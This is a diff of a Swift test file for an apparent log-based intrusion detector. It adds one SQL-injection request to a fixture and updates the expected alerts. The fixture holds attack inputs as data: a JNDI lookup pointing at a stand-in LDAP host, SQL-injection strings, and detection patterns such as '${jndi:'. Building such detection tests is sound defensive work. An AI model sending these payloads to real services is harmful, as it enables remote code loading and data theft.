@@ -84,15 +84,17 @@ paths:
             "+2 203.0.113.92 - GET /v1/home?x=${jndi:ldap://x.example/a} 200 Mozilla/5.0",
             "+3 203.0.113.93 - GET /v1/users/me?q=1'+or+1=1--+- 200 Mozilla/5.0",
             "+4 203.0.113.94 - GET /v1/users/me?q=union/**/select+1 200 Mozilla/5.0",
+            "+4 203.0.113.95 - GET /v1/users/me?q=1+union+all+select+null,null 200 Mozilla/5.0",
             "+5 192.0.2.10 - GET /v1/users/me?q=rock+%27n%27+roll+(live) 200 Mozilla/5.0",
             "+6 192.0.2.11 - GET /v1/users/me?q=select+a+union+plan&sort=-created 200 Mozilla/5.0",
             "+7 192.0.2.12 - GET /v1/users/me?filter=%7B%22name%22%3A%22o%27brien%22%7D 200 Mozilla/5.0",
         ]
         let alerts = only(try DetectorHarness.run(lines: lines, configuration: try specConfig()), .unknownEndpoint)
-        #expect(alerts.map(\.incidentKey) == (90...94).map { "probe:ip:203.0.113.\($0)" })
+        #expect(alerts.map(\.incidentKey) == (90...95).map { "probe:ip:203.0.113.\($0)" })
         #expect(alerts.allSatisfy { $0.evidence.first { $0.0 == "reason" }?.1 == .string("injection-payload") })
         #expect(alerts.map { $0.evidence.first { $0.0 == "pattern" }?.1 } ==
-            [.string("union all select"), .string("<script"), .string("${jndi:"), .string("' or 1=1"), .string("union select")])
+            [.string("union all select"), .string("<script"), .string("${jndi:"), .string("' or 1=1"), .string("union select"),
+             .string("union all select")])
     }
 
     @Test func probingClientWithManyUnknownPaths() throws {
